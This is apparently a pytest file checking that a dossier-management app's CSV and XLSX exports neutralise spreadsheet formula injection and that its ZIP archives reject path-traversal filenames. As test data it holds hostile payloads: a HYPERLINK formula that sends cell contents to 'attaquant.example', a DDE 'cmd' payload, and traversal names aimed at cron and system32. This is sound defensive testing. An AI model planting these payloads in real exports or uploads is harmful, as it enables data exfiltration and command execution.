"""Exports cannot carry a formula: a déposant who types `=HYPERLINK(...)` (or `+`, `-`, `@`,
a tab, a carriage return first) in any field, or names its organisation so, gives the ARS a
text cell — neutralised with a leading quote in the CSV, a string cell in the XLSX — while
numbers and dates keep their types (issue 15, hole 3)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

import openpyxl
from sqlalchemy import select

from tests.conftest import pdf_bytes
from workflow.administration.instructors import follow
from workflow.instruction.archives import campaign_entries, dossier_entries, write_zip
from workflow.instruction.exports import (
    _MAY_START_FORMULA,
    _STARTS_FORMULA,
    export_csv,
    export_xlsx,
    neutralised,
)
from workflow.models import Attachment, Avis
from workflow.plumbing.db import transaction
from workflow.plumbing.storage import Storage

HYPERLINK = '=HYPERLINK("http://attaquant.example/?d="&A2,"Cliquez ici")'
HOSTILE = {
    "partenaire_nom": HYPERLINK,
    "partenaire_email": "=1+1",
    "specialite": "+1+1",
    "nom": "-2+3",
    "prenom": "@SUM(1+1)*cmd|' /C calc'!A0",
    "commentaire": "\t=1+1",
    "projet": "\r=1+1",
    "adresse": "   =1+1",
    "erreur": "#N/A",
}


def hostile_export(world, session):
    """A decided dossier whose every text, its organisation's name and its decision's
    motivation included, is a formula; with a number, a date and a repeated table."""
    text = [{"key": key, "label": key, "type": "text"} for key in HOSTILE]
    campaign = world.campaign(
        volets=[
            {"key": "identification", "title": "=Identification", "fields": [
                *text,
                {"key": "temps", "label": "Temps", "type": "percentage"},
                {"key": "debut", "label": "Début", "type": "date"},
                {"key": "stages", "label": "Stages", "type": "table", "columns": [
                    {"key": "lieu", "label": "=Lieu"},
                ]},
            ]},
        ],
        rules=[],
        summary={},
    )  # fmt: skip
    organisation = world.organisation(name='=HYPERLINK("http://x.example","CH")')
    dossier = world.dossier(campaign, organisation, "refuse", published=True)
    with transaction(session):
        dossier.values = {
            "identification": {
                **HOSTILE,
                "temps": -40,
                "debut": "2026-11-02",
                "stages": [{"lieu": "=1+1"}, {"lieu": "-1"}],
            }
        }
        dossier.decision.motivation = "=1+1"
    return campaign


def test_the_neutralised_cell_is_the_owasp_one():
    for value in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "  =1+1", "\n=1"):
        assert neutralised(value) == "'" + value
    for value in ("CHU de Rouen", "1+1", "Dr =X", "", "'déjà cité", "#N/A"):
        assert neutralised(value) == value


def test_no_cell_of_the_xlsx_is_a_formula_and_numbers_and_dates_keep_their_types(world, session):
    campaign = hostile_export(world, session)
    data = export_xlsx(session, campaign.id)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds and "e" not in kinds
    header, row = ([c.value for c in r] for r in sheet.iter_rows(max_row=2))
    cells = dict(zip(header, row, strict=True))
    assert cells["Organisation"] == '=HYPERLINK("http://x.example","CH")'
    assert cells["=Identification — partenaire_nom"] == HYPERLINK
    assert cells["=Identification — erreur"] == "#N/A"
    assert cells["Motivation"] == "=1+1"
    # The tab and the carriage return are kept as the déposant typed them: a string cell
    # is text whatever it starts with.
    assert cells["=Identification — commentaire"] == "\t=1+1"
    assert cells["=Identification — Temps"] == -40
    assert cells["=Identification — Début"] == dt.datetime(2026, 11, 2)
    assert cells["N° de dossier"] == int(cells["N° de dossier"])


def test_no_cell_of_the_csv_starts_a_formula(world, session):
    campaign = hostile_export(world, session)
    text = export_csv(session, campaign.id).decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    texts = [cell for cell in (*header, *row) if not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell)]
    for cell in texts:
        assert cell.lstrip()[:1] not in set("=+-@\t\r") or cell.startswith("'"), repr(cell)
        assert not cell.startswith("'") or cell[1:].lstrip()[:1] in set("=+-@\t\r")
    cells = dict(zip(header, row, strict=True))
    assert cells["Organisation"] == "'" + '=HYPERLINK("http://x.example","CH")'
    assert cells["'=Identification — partenaire_nom"] == "'" + HYPERLINK
    assert cells["'=Identification — prenom"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cells["'=Identification — projet"] == "'\r=1+1"
    assert cells["'=Identification — adresse"] == "'   =1+1"
    assert cells["'=Identification — erreur"] == "#N/A"
    assert cells["Motivation"] == "'=1+1"
    # A number stays a number (a negative one included), a date a date.
    assert cells["'=Identification — Temps"] == "-40"
    assert cells["'=Identification — Début"] == "02/11/2026"
    # Repeated rows are one cell: its first character decides.
    assert cells["'=Identification — Stages"] == "'=Lieu : =1+1\n=Lieu : -1"


def test_the_served_exports_hold_no_formula(world, client, auth, session):
    campaign = hostile_export(world, session)
    user = world.user("instructeur")
    admin = world.actor("administrateur")
    with transaction(session):
        follow(session, user, campaign, admin)
    auth.login(user)
    served = client.get(f"/instruction/campagnes/{campaign.slug}/export.csv")
    assert served.status_code == 200
    rows = list(csv.reader(io.StringIO(served.data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert all(not c.startswith(("=", "+", "@")) for row in rows for c in row)
    book = client.get(f"/instruction/campagnes/{campaign.slug}/export.xlsx")
    assert book.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(book.data)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


# A folder named by the dossier, then a name of safe characters only.
SAFE_ARCNAME = re.compile(r"^(?:[0-9]+/)?[0-9]+-[A-Za-z0-9._-]*\.pdf$")


def test_zip_entries_cannot_climb_out_or_carry_control_characters(world, session, tmp_path):
    storage = Storage(tmp_path / "uploads")
    campaign = world.campaign()
    hostile_names = [
        "../../../../etc/cron.d/x.pdf",
        "..\\..\\windows\\system32\\x.pdf",
        "/absolu.pdf",
        "nom\r\navec\x07contrôle\x1b[31m.pdf",
        "..",
        "....pdf",
    ]
    dossiers = []
    for name in hostile_names:
        dossier = world.dossier(campaign, world.organisation(), "en_instruction")
        with transaction(session):
            attachment = session.scalars(
                select(Attachment).where(Attachment.dossier_id == dossier.id)
            ).one()
            attachment.storage_name = storage.save(pdf_bytes())
            attachment.filename = name
            session.add(
                Avis(
                    dossier_id=dossier.id,
                    avis_key="coordonnateur",
                    giver_email="coordo@chu.fr",
                    verdict="favorable",
                    given_at=dossier.deposited_at,
                    storage_name=storage.save(pdf_bytes()),
                )
            )
        dossiers.append(dossier)
    entries = [e for d in dossiers for e in dossier_entries(session, d)]
    for listed in (entries, campaign_entries(session, campaign.id)):
        with write_zip(listed, storage) as archive:
            names = zipfile.ZipFile(archive).namelist()
        assert len(names) == 2 * len(hostile_names)
        for name in names:
            assert SAFE_ARCNAME.match(name), name
            assert ".." not in name.split("/")


def test_the_csv_writers_quick_test_neutralises_exactly_what_neutralised_does():
    # Every text of up to four characters over starts of formulas, spaces of every kind
    # (a no-break space, a vertical tab, an information separator) and plain letters.
    alphabet = ["=", "+", "-", "@", "\t", "\r", "\n", " ", "\u00a0", "\x0b", "\x1c", "a", "'"]
    texts = [""] + alphabet
    for _ in range(3):
        texts += [t + c for t in texts if len(t) == len(texts[-1]) for c in alphabet]
    assert len(texts) > 30_000
    for text in texts:
        assert (_STARTS_FORMULA.match(text) is not None) == (neutralised(text) != text), repr(text)


def test_the_csv_looks_for_a_formula_in_every_text_that_may_start_one():
    # The CSV's fast path runs the expression only when the first character is one of these.
    for code in range(0x110000):
        char = chr(code)
        if _STARTS_FORMULA.match(char + "=") or _STARTS_FORMULA.match(char):
            assert char in _MAY_START_FORMULA, hex(code)
